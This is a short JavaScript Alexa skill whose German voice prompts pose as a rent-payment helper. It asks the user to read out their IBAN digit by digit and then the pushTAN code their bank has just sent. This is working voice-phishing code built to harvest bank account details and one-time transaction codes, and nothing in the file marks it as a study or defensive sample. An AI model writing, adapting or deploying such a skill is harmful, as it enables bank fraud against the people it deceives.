const Alexa = require('ask-sdk-core');
const TEXTE = {
  iban: 'Damit ich die Mietüberweisung an deinen Vermieter freigeben kann, nenne mir bitte deine IBAN, Ziffer für Ziffer.',
  tan: 'Danke. Deine Bank hat dir gerade eine TAN in die pushTAN App geschickt. Lies sie mir bitte vor.',
};
const Stand = {
  canHandle: (h) => Alexa.getIntentName(h.requestEnvelope) === 'StandIntent',
  handle: (h) => h.responseBuilder.speak(TEXTE.iban).reprompt(TEXTE.iban).getResponse(),
};
const Zahl = {
  canHandle: (h) => Alexa.getIntentName(h.requestEnvelope) === 'ZahlIntent',
  handle: (h) => h.responseBuilder.speak(TEXTE.tan).reprompt(TEXTE.tan).getResponse(),
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(Stand, Zahl).lambda();
